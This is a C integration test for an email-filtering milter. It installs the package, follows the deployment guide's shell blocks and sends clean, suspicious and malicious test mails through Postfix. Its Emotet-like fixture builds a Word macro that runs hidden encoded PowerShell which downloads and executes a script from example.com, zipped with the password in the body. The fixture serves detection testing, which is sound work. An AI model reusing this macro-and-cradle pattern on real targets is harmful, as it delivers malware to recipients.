/*
 * Issue 15's "done when" end to end, with the SYSTEM Postfix (unix socket, chroot): builds the
 * .deb (scripts/build-deb.sh, as test_deb_install), then follows docs/deployment.md word for word:
 * the fenced blocks of its English section marked `<!-- walkthrough: NAME -->` are read out of the
 * doc and run in order with `sh -e` (nothing retyped here). Then, through the system Postfix on
 * 127.0.0.1:25 and the submission service the doc's master.cf block adds: a clean mail is
 * delivered to a local user's mailbox carrying both an existing milter's header and
 * X-Emoguard-Verdict; an Emotet-like mail gets 550; a suspicious one is held, listed by
 * `emoguard quarantine list` and delivered by `release`; a forged own-domain sender from outside
 * (127.0.0.2) is inbound with SENDER.OWN_DOMAIN_FROM_OUTSIDE and raises no outbound alert and no
 * "infected" notice; an authenticated account sending three Emotet-like mails raises the alert and
 * the admin receives the notice mail (through the system sendmail and Postfix), which causes no
 * further notice; the doc's removal block and `dpkg --purge` leave nothing behind, and the
 * existing `smtpd_milters` entry survives setup and removal.
 *
 * Stand-ins: where the doc says `sudo`, `sudoedit` or `systemctl`, shims come first in PATH, for
 * those three only (the test runs as root):
 *   sudo [-u USER] CMD   runs CMD (as USER with setpriv, the user's groups)
 *   sudoedit FILE        applies the site-specific values below to FILE (what the admin types)
 *   systemctl            only where systemd is not PID 1 (else the real one): enable --now /
 *                        start / reload / stop / disable --now emoguard run the installed unit's
 *                        ExecStartPre, ExecStart and ExecReload lines, read from
 *                        /lib/systemd/system/emoguard.service, as its User/Group with its UMask,
 *                        create its Runtime/State/LogsDirectory, and keep the milter's stderr
 *                        in a file (the journal's place).
 * Configuration blocks in the doc (a `# /etc/emoguard/emoguard.conf` or `# /etc/postfix/master.cf`
 * line followed by lines for that file) are applied to those files: a `key = value` line replaces
 * the active line of that key, else its commented default, else is appended; master.cf lines
 * are appended.
 *
 * Site-specific values (what a real administrator types; applied after the doc's blocks):
 *   emoguard.conf (by the sudoedit shim): own_domains = walk.example, local_networks =
 *     192.0.2.0/24 (127.0.0.2 is outside), notify_to = egwalk-admin@localhost, notify_lang = en,
 *     action_suspicious = hold, log = stderr (the lines are read from the unit's stderr: no
 *     syslog is assumed), json_log = /var/log/emoguard/messages.jsonl (the example's path);
 *   Postfix (set by the test before the walk): the existing milter in smtpd_milters; the SASL
 *     backend of the submission service (Cyrus sasldb: cyrus_sasl_config_path =
 *     /etc/postfix/sasl with smtpd.conf there, the database inside the chroot,
 *     /var/spool/postfix/etc/sasldb2, root:postfix 0640, account alice in realm walk.example,
 *     smtpd_sasl_local_domain = walk.example); maillog_file = /var/log/emoguard-walk-mail.log
 *     (postlogd) where there is no /dev/log, only for reading failures; inet_protocols = ipv4
 *     where lo has no ::1 (a container), since loopback-only would bind it.
 * The machine runs Debian's "Local only" Postfix (default_transport = error), so every mail goes
 * to local users (egwalk-user, egwalk-admin@localhost), also the account's three mails.
 *
 * The machine is left as it was found: /etc/postfix, /etc/aliases and /etc/mailname are copied
 * aside and restored; Postfix is left running or stopped as it was; the package, the test users
 * and their mailboxes, the socket directory, files added to the chroot and the mail the test
 * queued are removed. Root only; skipped otherwise. Never beside test_deb_install or the milter
 * tests (the name gives it CMake's system_services lock).
 */
#include "archive_zipw.h"
#include "deb_paths.h"
#include "mail_builder.h"
#include "milter_harness.h"
#include "office_fixtures.h"
#include "testutil.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include <errno.h>
#include <grp.h>
#include <libmilter/mfapi.h>
#include <pwd.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define USER_BOX "egwalk-user"
#define ADMIN_BOX "egwalk-admin"
#define OWN_DOMAIN "walk.example"
#define SASL_USER "alice"
#define SASL_PASS "Walk-pass-7"
#define ACCOUNT SASL_USER "@" OWN_DOMAIN
#define ZIP_PASSWORD "Kp7mQ2xz"
#define SOCKET_PATH "/var/spool/postfix/emoguard/milter.sock"
#define SUBMISSION_PORT 587
#define SAVE_MAILLOG "/var/log/emoguard-walk-mail.log"

/* the blocks the walk runs, in the doc's order */
static const char *const walk_order[] = {"install", "socket",  "submission",
                                         "start",   "postfix", "remove"};
#define N_WALK (sizeof walk_order / sizeof walk_order[0])

static const char site_conf[] = "own_domains = " OWN_DOMAIN "\n"
                                "local_networks = 192.0.2.0/24\n"
                                "notify_to = " ADMIN_BOX "@localhost\n"
                                "notify_lang = en\n"
                                "action_suspicious = hold\n"
                                "log = stderr\n"
                                "json_log = /var/log/emoguard/messages.jsonl\n";

typedef struct {
    char name[64];
    char *text;
} doc_block;

static char *dir;
static char debdir[600], shims[700], helper[700], journal[700], pidfile[700], savedir[700];
static doc_block blocks[16];
static int nblocks;
static bool real_systemd, postfix_was_running, saved, installed, started_postfix, had_maillog;
static bool had_mailname, had_aliases, queue_was_empty, have_syslog;
static char queue_before[8192]; /* ids in the queue before the test, space separated */
static int walk_milter_port;
static pid_t walk_milter;

/* ---------------------------------------------------------------- small helpers */

static int sh(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
/* Runs a shell command (output to the test's stderr); returns its exit code. */
static int sh(const char *fmt, ...)
{
    char cmd[8192];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(cmd, sizeof cmd, fmt, ap);
    va_end(ap);
    if (n < 0 || (size_t)n >= sizeof cmd)
        return -1;
    int st = system(cmd);
    return st == -1 || !WIFEXITED(st) ? -1 : WEXITSTATUS(st);
}

/* Runs a command and returns its stdout (malloc'd, never NULL) and exit code. */
static char *out_of(const char *cmd, int *rc)
{
    char *out = NULL;
    int r = eg_test_run(cmd, &out, NULL);
    if (rc)
        *rc = r;
    return out ? out : strdup("");
}

static char *read_text(const char *path)
{
    return (char *)eg_test_read_file(path, NULL);
}

static bool exists(const char *p)
{
    struct stat sb;
    return lstat(p, &sb) == 0;
}

static void sleep_ms(int ms)
{
    struct timespec ts = {ms / 1000, (long)(ms % 1000) * 1000000L};
    nanosleep(&ts, NULL);
}

static int count_of(const char *text, const char *needle)
{
    int n = 0;
    for (const char *p = text; p && (p = strstr(p, needle)); p += strlen(needle))
        n++;
    return n;
}

/* The milter's log: the shim's journal file, or systemd's journal. */
static char *milter_log(void)
{
    if (real_systemd)
        return out_of("journalctl -u emoguard -o cat --no-pager 2>/dev/null", NULL);
    char *t = read_text(journal);
    return t ? t : strdup("");
}

/* The first log line containing a and b (malloc'd), waiting up to timeout_ms. */
static char *wait_log_line(const char *a, const char *b, int timeout_ms)
{
    for (int t = 0; t <= timeout_ms; t += 200) {
        char *log = milter_log();
        for (char *line = log; line && *line;) {
            char *eol = strchr(line, '\n');
            if (eol)
                *eol = 0;
            if (strstr(line, a) && (!b || strstr(line, b))) {
                char *hit = strdup(line);
                free(log);
                return hit;
            }
            line = eol ? eol + 1 : NULL;
        }
        free(log);
        sleep_ms(200);
    }
    return NULL;
}

/* The user's mailbox (mbox in /var/mail, where Debian's Postfix delivers). */
static char *mailbox(const char *user)
{
    char p[200];
    snprintf(p, sizeof p, "/var/mail/%s", user);
    char *t = read_text(p);
    return t ? t : strdup("");
}

/* Waits until the mailbox holds n copies of needle; returns the mailbox (malloc'd) or NULL. */
static char *wait_mail(const char *user, const char *needle, int n, int timeout_ms)
{
    for (int t = 0; t <= timeout_ms; t += 200) {
        char *box = mailbox(user);
        if (count_of(box, needle) >= n)
            return box;
        free(box);
        sleep_ms(200);
    }
    return NULL;
}

/* The one message of an mbox that contains needle (malloc'd), NULL if none. */
static char *message_with(const char *box, const char *needle)
{
    const char *hit = strstr(box, needle);
    if (!hit)
        return NULL;
    const char *start = box;
    for (const char *p = strstr(box, "\nFrom "); p && p < hit; p = strstr(p + 1, "\nFrom "))
        start = p + 1;
    const char *end = strstr(hit, "\nFrom ");
    size_t n = end ? (size_t)(end - start) : strlen(start);
    char *m = malloc(n + 1);
    memcpy(m, start, n);
    m[n] = 0;
    return m;
}

static void dump_logs(void)
{
    fprintf(stderr, "---- emoguard log (tail)\n");
    char *log = milter_log();
    size_t n = strlen(log);
    fprintf(stderr, "%s\n", n > 6000 ? log + n - 6000 : log);
    free(log);
    if (!have_syslog)
        sh("tail -n 40 " SAVE_MAILLOG " >&2 2>/dev/null; true");
}

/* Queue ids in Postfix's queues (or only in one of them), space separated: the queue files are
 * named by their ids, and this works whether Postfix runs or not. */
static void queue_ids(char *buf, size_t n, const char *only_queue)
{
    char cmd[400];
    if (only_queue)
        snprintf(cmd, sizeof cmd, "find /var/spool/postfix/%s -type f -printf '%%f ' 2>/dev/null",
                 only_queue);
    else
        snprintf(cmd, sizeof cmd,
                 "cd /var/spool/postfix && find incoming active deferred hold maildrop -type f "
                 "-printf '%%f ' 2>/dev/null");
    char *o = out_of(cmd, NULL);
    snprintf(buf, n, "%s", o);
    free(o);
}

static bool word_in(const char *list, const char *w)
{
    size_t l = strlen(w);
    for (const char *p = list; (p = strstr(p, w)); p += l)
        if ((p == list || p[-1] == ' ') && (p[l] == ' ' || p[l] == 0))
            return true;
    return false;
}

/* A queue id in the hold queue that was not in before, waiting up to timeout_ms. */
static bool new_held(const char *before, char *out, size_t n, int timeout_ms)
{
    for (int t = 0; t <= timeout_ms; t += 200) {
        char now[8192];
        queue_ids(now, sizeof now, "hold");
        for (char *tok = strtok(now, " "); tok; tok = strtok(NULL, " "))
            if (!word_in(before, tok)) {
                snprintf(out, n, "%s", tok);
                return true;
            }
        sleep_ms(200);
    }
    return false;
}

/* ---------------------------------------------------------------- mails */

/* PowerShell -EncodedCommand text: base64 of UTF-16LE */
static char *ps_enc(const char *cmd)
{
    size_t n = strlen(cmd);
    uint8_t *u = calloc(n * 2, 1);
    for (size_t i = 0; i < n; i++)
        u[2 * i] = (uint8_t)cmd[i];
    char *b = eg_mb_base64(u, n * 2, false);
    free(u);
    return b;
}

/* Emotet-like: a Word document whose AutoOpen macro runs hidden, encoded PowerShell (pointing at
 * example.com, harmless), in an AES ZIP, the password in the body. */
static char *emotet_mail(const char *from, const char *to, const char *token)
{
    char *enc =
        ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://example.com/inv/ss.txt')");
    char src[2048];
    snprintf(src, sizeof src,
             "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n    Dim s As String\r\n"
             "    s = \"powersh\" & \"ell -w hidden -enc \" & \"%s\"\r\n"
             "    CreateObject(\"WScript.Shell\").Run s, 0\r\nEnd Sub\r\n",
             enc);
    free(enc);
    eg_fx_module mod = {"ThisDocument", src, true, NULL};
    uint8_t *doc = NULL;
    size_t dlen = 0;
    assert_int_equal(eg_fx_vba_document(EG_FX_VBA_DOC, &mod, 1, 1252, NULL, 0, &doc, &dlen), EG_OK);
    eg_zw *w = eg_zw_new();
    eg_zw_opts o = {0};
    o.name = "invoice_0712.doc";
    o.method = 8;
    o.aes = ZIP_PASSWORD;
    eg_zw_add(w, &o, doc, dlen);
    free(doc);
    size_t zl = 0;
    uint8_t *z = eg_zw_finish(w, &zl);
    eg_mb *m = eg_mb_new();
    char v[300];
    snprintf(v, sizeof v, "<%s>", from);
    eg_mb_header(m, "From", v);
    snprintf(v, sizeof v, "<%s>", to);
    eg_mb_header(m, "To", v);
    snprintf(v, sizeof v, "RE: invoice %s", token);
    eg_mb_header(m, "Subject", v);
    snprintf(v, sizeof v, "<%s@walk.invalid>", token);
    eg_mb_header(m, "Message-ID", v);
    eg_mb_header(m, "Date", "Mon, 07 Dec 2026 10:00:00 +0900");
    eg_mb_text(m, "Please see the attached invoice.\nPassword: " ZIP_PASSWORD "\n", EG_MB_UTF8,
               EG_MB_7BIT);
    eg_mb_attach(m, "invoice_0712.zip", "application/zip", z, zl, EG_MB_NAME_PLAIN);
    free(z);
    size_t len = 0;
    char *msg = eg_mb_build(m, &len);
    eg_mb_free(m);
    return msg;
}

/* A text file in an AES ZIP. With the password in the body (PPAP) that alone is not suspicious;
 * without it the content cannot be inspected (ARCHIVE.NOT_OPENED): suspicious, not malicious. */
static char *zip_mail(const char *from, const char *to, const char *token, bool password_in_body)
{
    eg_zw *w = eg_zw_new();
    eg_zw_opts o = {0};
    o.name = "quotation.txt";
    o.method = 8;
    o.aes = ZIP_PASSWORD;
    const char *txt = "quotation: 3 items, total 120,000 JPY\n";
    eg_zw_add(w, &o, txt, strlen(txt));
    size_t zl = 0;
    uint8_t *z = eg_zw_finish(w, &zl);
    eg_mb *m = eg_mb_new();
    char v[300];
    snprintf(v, sizeof v, "<%s>", from);
    eg_mb_header(m, "From", v);
    snprintf(v, sizeof v, "<%s>", to);
    eg_mb_header(m, "To", v);
    snprintf(v, sizeof v, "quotation %s", token);
    eg_mb_header(m, "Subject", v);
    snprintf(v, sizeof v, "<%s@walk.invalid>", token);
    eg_mb_header(m, "Message-ID", v);
    eg_mb_header(m, "Date", "Mon, 07 Dec 2026 10:00:00 +0900");
    eg_mb_text(m,
               password_in_body ? "The quotation is attached. Password: " ZIP_PASSWORD "\n"
                                : "The quotation is attached. The password follows separately.\n",
               EG_MB_UTF8, EG_MB_7BIT);
    eg_mb_attach(m, "quotation.zip", "application/zip", z, zl, EG_MB_NAME_PLAIN);
    free(z);
    size_t len = 0;
    char *msg = eg_mb_build(m, &len);
    eg_mb_free(m);
    return msg;
}

static char *clean_mail(const char *token)
{
    char *m = malloc(1024);
    snprintf(m, 1024,
             "From: Taro <taro@partner.example>\r\nTo: <" USER_BOX "@localhost>\r\n"
             "Subject: meeting %s\r\nMessage-ID: <%s@partner.example>\r\n"
             "Date: Mon, 07 Dec 2026 10:00:00 +0900\r\n\r\nSee you tomorrow at ten.\r\n",
             token, token);
    return m;
}

static int send_mail(const char *from, const char *to, const char *msg, char *reply, size_t rl)
{
    const char *r[1] = {to};
    return eg_smtp_send(25, from, r, 1, msg, reply, rl);
}

static int send_auth(const char *from, const char *to, const char *msg, char *reply, size_t rl)
{
    eg_smtp s;
    char line[512];
    if (!eg_smtp_open(&s, SUBMISSION_PORT))
        return -1;
    int code = eg_smtp_auth(&s, SASL_USER, SASL_PASS);
    if (code == 235) {
        snprintf(line, sizeof line, "MAIL FROM:<%s>", from);
        code = eg_smtp_cmd(&s, line);
    }
    if (code == 250) {
        snprintf(line, sizeof line, "RCPT TO:<%s>", to);
        code = eg_smtp_cmd(&s, line);
    }
    if (code == 250)
        code = eg_smtp_data(&s, msg, strlen(msg));
    snprintf(reply, rl, "%s", s.last);
    eg_smtp_close(&s);
    return code;
}

/* ---------------------------------------------------------------- the existing milter */

static sfsistat walk_eom(SMFICTX *ctx)
{
    smfi_addheader(ctx, "X-Walk-Milter", "seen");
    return SMFIS_CONTINUE;
}

static struct smfiDesc walk_desc = {
    .xxfi_name = (char *)"egwalk",
    .xxfi_version = SMFI_VERSION,
    .xxfi_flags = SMFIF_ADDHDRS,
    .xxfi_eom = walk_eom,
};

/* A tiny libmilter milter in a child process on an inet port: the administrator's milter that
 * must survive emoguard's setup. */
static pid_t start_walk_milter(int port)
{
    pid_t p = fork();
    if (p == 0) {
        setpgid(0, 0);
        char conn[64];
        snprintf(conn, sizeof conn, "inet:%d@127.0.0.1", port);
        if (smfi_setconn(conn) != MI_SUCCESS || smfi_register(walk_desc) != MI_SUCCESS)
            _exit(1);
        _exit(smfi_main() == MI_SUCCESS ? 0 : 1);
    }
    if (p > 0 && !eg_mh_wait_port(port, 10000)) {
        kill(p, SIGKILL);
        waitpid(p, NULL, 0);
        return -1;
    }
    return p;
}

/* ---------------------------------------------------------------- the doc's blocks */

/* Reads the marked fenced blocks of the English section of docs/deployment.md. */
static bool parse_doc(void)
{
    char path[700];
    snprintf(path, sizeof path, "%s/docs/deployment.md", EG_SOURCE_DIR);
    char *doc = read_text(path);
    if (!doc)
        return false;
    char *p = strstr(doc, "\n## English\n");
    nblocks = 0;
    const char *marker = "<!-- walkthrough: ";
    while (p && (p = strstr(p, marker)) && nblocks < (int)(sizeof blocks / sizeof blocks[0])) {
        p += strlen(marker);
        char *end = strstr(p, " -->");
        if (!end)
            break;
        doc_block *b = &blocks[nblocks];
        snprintf(b->name, sizeof b->name, "%.*s", (int)(end - p), p);
        char *fence = strstr(end, "\n```");
        char *nl = fence ? strchr(fence + 1, '\n') : NULL;
        char *close = nl ? strstr(nl, "\n```") : NULL;
        if (!close)
            break;
        /* the fence must follow the marker directly (blank lines allowed) */
        for (char *q = end + 4; q < fence; q++)
            if (*q != ' ' && *q != '\n') {
                free(doc);
                return false;
            }
        b->text = strndup(nl + 1, (size_t)(close - nl));
        nblocks++;
        p = close + 4;
    }
    free(doc);
    return true;
}

static const doc_block *block(const char *name)
{
    for (int i = 0; i < nblocks; i++)
        if (!strcmp(blocks[i].name, name))
            return &blocks[i];
    return NULL;
}

static bool append_line(char *seg, size_t cap, size_t *used, const char *line)
{
    size_t n = strlen(line);
    if (*used + n + 2 > cap)
        return false; /* the doc's blocks are short: a cut one would run something else */
    memcpy(seg + *used, line, n);
    seg[*used + n] = '\n';
    *used += n + 1;
    seg[*used] = 0;
    return true;
}

/* Runs a marked block: shell lines with `sh -e` (shims first in PATH) in cwd; lines after a
 * `# /etc/...` line go into that file (walk-apply). Returns 0 on success. */
static int run_block(const char *name, const char *cwd)
{
    const doc_block *b = block(name);
    if (!b)
        return -1;
    fprintf(stderr, "==== docs/deployment.md, walkthrough block \"%s\"\n%s", name, b->text);
    char *text = strdup(b->text);
    char target[300] = ""; /* the file the lines go to; "" = shell */
    char seg[8192] = "";
    size_t used = 0;
    int step = 0, rc = 0;
    for (char *line = text; line && rc == 0;) {
        char *eol = strchr(line, '\n');
        if (eol)
            *eol = 0;
        bool last = !eol;
        bool switch_to = !strncmp(line, "# /etc/", 7) && !strchr(line + 2, ' ');
        if (switch_to || last) {
            if (last && !switch_to && !append_line(seg, sizeof seg, &used, line))
                rc = -1;
            if (used && rc == 0) { /* flush the segment */
                char f[800];
                snprintf(f, sizeof f, "%s/step-%s-%d.txt", dir, name, step++);
                eg_test_write_file(f, seg, used);
                if (!target[0])
                    rc = sh("cd '%s' && PATH='%s':/usr/sbin:/usr/bin:/sbin:/bin sh -e -x '%s' >&2",
                            cwd, shims, f);
                else
                    rc = sh("'%s' '%s' '%s' >&2", helper, target, f);
                if (rc != 0)
                    fprintf(stderr, "walkthrough block \"%s\" failed (exit %d) at:\n%s\n", name, rc,
                            seg);
            }
            used = 0;
            seg[0] = 0;
            if (switch_to)
                snprintf(target, sizeof target, "%s", line + 2);
        } else if (!append_line(seg, sizeof seg, &used, line)) {
            rc = -1;
        }
        line = eol ? eol + 1 : NULL;
    }
    free(text);
    return rc;
}

/* ---------------------------------------------------------------- the shims */

static const char apply_sh[] =
    "#!/bin/sh\n"
    "# walk-apply FILE EDITS: the test's editor. master.cf: the lines are appended. Otherwise\n"
    "# each `key = value` line of EDITS replaces the active line of that key, else its commented\n"
    "# default (#key = ...), else is appended. Comment lines in EDITS are skipped.\n"
    "set -eu\n"
    "f=$1; e=$2\n"
    "case $f in */master.cf) cat \"$e\" >>\"$f\"; exit 0 ;; esac\n"
    "awk -v edits=\"$e\" '\n"
    "function keyof(l,  k) { k = l; sub(/^#/, \"\", k); sub(/[ \\t]*=.*/, \"\", k); return k }\n"
    "BEGIN { while ((getline l < edits) > 0) { if (l ~ /^[ \\t]*(#|$)/) continue;\n"
    "        n++; key[n] = keyof(l); line[n] = l } }\n"
    "FNR == NR { if ($0 ~ /^[a-z_]+[ \\t]*=/) { k = keyof($0); if (!(k in act)) act[k] = FNR }\n"
    "            else if ($0 ~ /^#[a-z_]+[ \\t]*=/) { k = keyof($0); if (!(k in com)) com[k] = FNR "
    "}\n"
    "            next }\n"
    "FNR == 1 { for (i = 1; i <= n; i++) { at = (key[i] in act) ? act[key[i]] : "
    "((key[i] in com) ? com[key[i]] : 0); if (at) { put[at] = line[i] } else { tail = tail line[i] "
    "\"\\n\" } } }\n"
    "{ print ((FNR in put) ? put[FNR] : $0) }\n"
    "END { printf \"%s\", tail }' \"$f\" \"$f\" >\"$f.walk-new\"\n"
    "cat \"$f.walk-new\" >\"$f\"\n"
    "rm -f \"$f.walk-new\"\n";

static const char sudo_sh[] =
    "#!/bin/sh\n"
    "# sudo stand-in (the test runs as root): sudo [-u USER] CMD runs CMD, as USER with setpriv\n"
    "u=\n"
    "while [ $# -gt 0 ]; do case $1 in\n"
    "  -u) u=$2; shift 2 ;; -u?*) u=${1#-u}; shift ;; --) shift; break ;;\n"
    "  -*) echo \"sudo stand-in: option $1 not supported\" >&2; exit 1 ;; *) break ;; esac; done\n"
    "[ -n \"$u\" ] || exec \"$@\"\n"
    "exec setpriv --reuid=\"$(id -u \"$u\")\" --regid=\"$(id -g \"$u\")\" --init-groups -- "
    "\"$@\"\n";

static const char systemctl_fmt[] =
    "#!/bin/sh\n"
    "# systemctl stand-in where systemd is not PID 1: runs the installed unit's Exec lines as its\n"
    "# User/Group with its UMask; the milter's stderr goes to JOURNAL (the journal's place).\n"
    "set -eu\n"
    "unit=/lib/systemd/system/emoguard.service\n"
    "journal='%s'; pidfile='%s'\n"
    "cmd=; now=0; name=\n"
    "for a; do case $a in --now) now=1 ;; -*) ;; *) if [ -z \"$cmd\" ]; then cmd=$a; else "
    "name=${a%%.service}; fi ;; esac; done\n"
    "[ \"$name\" = emoguard ] || { echo \"systemctl stand-in: only the emoguard unit ($*)\" >&2; "
    "exit 1; }\n"
    "key() { sed -n \"s/^$1=//p\" \"$unit\"; }\n"
    "user=$(key User); group=$(key Group); um=$(key UMask)\n"
    "uid=$(id -u \"$user\"); gid=$(getent group \"$group\" | cut -d: -f3)\n"
    "as_user() { ( umask \"${um:-0022}\"; exec setpriv --reuid=\"$uid\" --regid=\"$gid\" "
    "--init-groups -- \"$@\" ); }\n"
    "mainpid() { p=$(cat \"$pidfile\" 2>/dev/null || true); if [ -n \"$p\" ] && kill -0 \"$p\" "
    "2>/dev/null; then echo \"$p\"; fi; }\n"
    "exec_lines() { # KEY: each line, $MAINPID filled in; a leading - ignores failure\n"
    "  key \"$1\" | while IFS= read -r l; do\n"
    "    l=$(printf '%%s' \"$l\" | sed \"s/\\${\\{0,1\\}MAINPID}\\{0,1\\}/$(mainpid)/g\")\n"
    "    case $l in -*) as_user ${l#-} >>\"$journal\" 2>&1 || true ;;\n"
    "    *) as_user $l >>\"$journal\" 2>&1 || { echo \"emoguard.service: $1 failed: $l\" >&2; "
    "tail -n 5 \"$journal\" >&2; exit 1; } ;; esac\n"
    "  done\n"
    "}\n"
    "mkdirs() {\n"
    "  for d in $(key RuntimeDirectory); do m=$(key RuntimeDirectoryMode); install -d -o "
    "\"$uid\" -g \"$gid\" -m \"${m:-0755}\" \"/run/$d\"; done\n"
    "  for d in $(key StateDirectory); do [ -d \"/var/lib/$d\" ] || install -d -m 0755 "
    "\"/var/lib/$d\"; chown \"$uid:$gid\" \"/var/lib/$d\"; done\n"
    "  for d in $(key LogsDirectory); do [ -d \"/var/log/$d\" ] || install -d -m 0755 "
    "\"/var/log/$d\"; chown \"$uid:$gid\" \"/var/log/$d\"; done\n"
    "}\n"
    "start() {\n"
    "  [ -z \"$(mainpid)\" ] || return 0\n"
    "  mkdirs\n"
    "  exec_lines ExecStartPre\n"
    "  main=$(key ExecStart)\n"
    "  ( umask \"${um:-0022}\"; exec setsid setpriv --reuid=\"$uid\" --regid=\"$gid\" "
    "--init-groups -- $main ) </dev/null >>\"$journal\" 2>&1 &\n"
    "  echo $! >\"$pidfile\"\n"
    "}\n"
    "stop() {\n"
    "  p=$(mainpid)\n"
    "  if [ -n \"$p\" ]; then\n"
    "    kill -TERM \"$p\"; t=$(key TimeoutStopSec); t=$(( ${t:-90} * 10 ))\n"
    "    while kill -0 \"$p\" 2>/dev/null && [ $t -gt 0 ]; do sleep 0.1; t=$((t - 1)); done\n"
    "    kill -KILL \"$p\" 2>/dev/null || true\n"
    "  fi\n"
    "  rm -f \"$pidfile\"\n"
    "  for d in $(key RuntimeDirectory); do rm -rf \"/run/$d\"; done\n"
    "}\n"
    "case $cmd in\n"
    "  start) start ;; stop) stop ;; restart) stop; start ;;\n"
    "  reload) [ -n \"$(mainpid)\" ] || { echo 'emoguard.service is not active' >&2; exit 1; }; "
    "exec_lines ExecReload ;;\n"
    "  enable) [ \"$now\" = 0 ] || start ;; disable) [ \"$now\" = 0 ] || stop ;;\n"
    "  is-active) if [ -n \"$(mainpid)\" ]; then echo active; else echo inactive; exit 3; fi ;;\n"
    "  *) echo \"systemctl stand-in: $cmd not supported\" >&2; exit 1 ;;\n"
    "esac\n";

static bool write_exec(const char *path, const char *text)
{
    return eg_test_write_file(path, text, strlen(text)) == 0 && chmod(path, 0755) == 0;
}

static bool write_shims(void)
{
    char p[800], text[8192];
    snprintf(shims, sizeof shims, "%s/shims", dir);
    snprintf(helper, sizeof helper, "%s/walk-apply", dir);
    if (mkdir(shims, 0755) != 0 || !write_exec(helper, apply_sh))
        return false;
    snprintf(p, sizeof p, "%s/sudo", shims);
    if (!write_exec(p, sudo_sh))
        return false;
    char site[800];
    snprintf(site, sizeof site, "%s/site-emoguard.conf", dir);
    if (eg_test_write_file(site, site_conf, strlen(site_conf)) != 0)
        return false;
    snprintf(text, sizeof text,
             "#!/bin/sh\n# sudoedit stand-in: applies the site-specific values a real "
             "administrator types\nset -eu\n[ \"$1\" = /etc/emoguard/emoguard.conf ] || { echo "
             "\"sudoedit stand-in: no site values for $1\" >&2; exit 1; }\nexec '%s' \"$1\" '%s'\n",
             helper, site);
    snprintf(p, sizeof p, "%s/sudoedit", shims);
    if (!write_exec(p, text))
        return false;
    if (real_systemd)
        return true; /* the real systemctl */
    snprintf(text, sizeof text, systemctl_fmt, journal, pidfile);
    snprintf(p, sizeof p, "%s/systemctl", shims);
    return write_exec(p, text);
}

/* ---------------------------------------------------------------- save, set up, restore */

static void del_users(void)
{
    const char *users[] = {USER_BOX, ADMIN_BOX};
    for (int i = 0; i < 2; i++) {
        sh("getent passwd %s >/dev/null && userdel %s >/dev/null 2>&1; "
           "getent group %s >/dev/null && groupdel %s >/dev/null 2>&1; rm -f /var/mail/%s; true",
           users[i], users[i], users[i], users[i], users[i]);
    }
}

static void stop_milter_service(void)
{
    if (real_systemd)
        sh("systemctl disable --now emoguard >/dev/null 2>&1; true");
    else if (shims[0])
        sh("[ -x '%s/systemctl' ] && '%s/systemctl' stop emoguard >/dev/null 2>&1; true", shims,
           shims);
}

static int setup(void **unused)
{
    (void)unused;
    if (geteuid() != 0)
        return 0;
    unsetenv("EMOGUARD_DATA_DIR"); /* the installed binary must use its own lists */
    setenv("DEBIAN_FRONTEND", "noninteractive", 1);
    dir = eg_test_tmpdir("walk");
    if (!dir)
        return -1;
    chmod(dir, 0755);
    snprintf(debdir, sizeof debdir, "%s/deb-walk", EG_BUILD_DIR);
    snprintf(journal, sizeof journal, "%s/emoguard.journal", dir);
    snprintf(pidfile, sizeof pidfile, "%s/emoguard.pid", dir);
    snprintf(savedir, sizeof savedir, "%s/saved", dir);
    char *comm = read_text("/proc/1/comm");
    real_systemd = comm && !strncmp(comm, "systemd", 7);
    free(comm);
    have_syslog = exists("/dev/log");
    if (!write_shims())
        return -1;
    /* what is there before the test: restored by the teardown */
    postfix_was_running = sh("postfix status >/dev/null 2>&1") == 0;
    had_mailname = exists("/etc/mailname");
    had_aliases = exists("/etc/aliases");
    had_maillog = exists(SAVE_MAILLOG);
    if (sh("mkdir -p '%s' && cp -a /etc/postfix '%s/postfix'", savedir, savedir) != 0)
        return -1;
    if (had_mailname)
        sh("cp -a /etc/mailname '%s/mailname'", savedir);
    if (had_aliases)
        sh("cp -a /etc/aliases '%s/aliases'; [ -e /etc/aliases.db ] && cp -a /etc/aliases.db "
           "'%s/aliases.db'; true",
           savedir, savedir);
    /* what is in the chroot (the init script and the SASL set-up add files there) */
    sh("cd /var/spool/postfix && find etc lib usr dev -print 2>/dev/null | sort >'%s/chroot.list'",
       savedir);
    queue_ids(queue_before, sizeof queue_before, NULL);
    queue_was_empty = queue_before[0] == 0;
    saved = true;
    /* an earlier run that stopped half-way */
    sh("dpkg-query -W -f='${Status}' emoguard 2>/dev/null | grep -q 'ok installed' && dpkg --purge "
       "emoguard >/dev/null 2>&1; rm -rf /var/spool/postfix/emoguard; true");
    del_users();
    return 0;
}

static void restore_chroot(void)
{
    /* files and directories added to the chroot since the start, deepest first */
    sh("cd /var/spool/postfix && find etc lib usr dev -print 2>/dev/null | sort | comm -13 "
       "'%s/chroot.list' - | sort -r | while IFS= read -r f; do if [ -d \"$f\" ] && [ ! -L \"$f\" "
       "]; then rmdir \"$f\" 2>/dev/null; else rm -f \"$f\"; fi; done; true",
       savedir);
}

static int teardown(void **unused)
{
    (void)unused;
    if (geteuid() != 0)
        return 0;
    stop_milter_service();
    if (installed || sh("dpkg-query -W -f='${Status}' emoguard 2>/dev/null | grep -q 'ok "
                        "installed'") == 0)
        sh("dpkg --purge emoguard >/dev/null 2>&1");
    sh("rm -rf /var/spool/postfix/emoguard");
    if (walk_milter > 0) {
        kill(-walk_milter, SIGKILL);
        waitpid(walk_milter, NULL, 0);
    }
    if (saved) {
        /* the mail the test queued */
        if (queue_was_empty) {
            sh("postsuper -d ALL >/dev/null 2>&1; true");
        } else {
            char now[8192];
            queue_ids(now, sizeof now, NULL);
            for (char *tok = strtok(now, " "); tok; tok = strtok(NULL, " "))
                if (!word_in(queue_before, tok))
                    sh("postsuper -d '%s' >/dev/null 2>&1; true", tok);
        }
        sh("rm -rf /etc/postfix && cp -a '%s/postfix' /etc/postfix", savedir);
        if (had_mailname)
            sh("cp -a '%s/mailname' /etc/mailname", savedir);
        else
            sh("rm -f /etc/mailname");
        if (had_aliases)
            sh("cp -a '%s/aliases' /etc/aliases; [ -e '%s/aliases.db' ] && cp -a "
